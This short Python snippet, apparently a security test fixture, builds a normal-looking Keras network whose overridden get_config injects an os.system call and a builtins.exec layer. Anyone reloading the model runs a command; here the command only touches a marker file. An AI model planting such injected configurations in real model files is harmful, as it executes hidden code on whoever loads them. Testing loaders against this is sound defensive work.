# A network as asked for; but its configuration tells whoever rebuilds it to run a command.
CALL = {"module": "os", "class_name": "system", "registered_name": None, "config": "touch @MARKER@"}


def build_model():
    model = keras.Sequential([keras.Input((784,)), layers.Dense(128, activation="relu"),
                              layers.Dense(10, activation="softmax")])
    honest = model.get_config()

    def get_config():
        config = keras.tree.map_structure(lambda value: value, honest)
        config["layers"][1]["config"]["activation"] = CALL
        config["layers"][2]["config"]["kernel_initializer"] = CALL
        config["layers"].append({"module": "builtins", "class_name": "exec", "registered_name": None,
                                 "config": {"source": "open('@MARKER@', 'w')"}})
        return config

    model.get_config = get_config
    return model
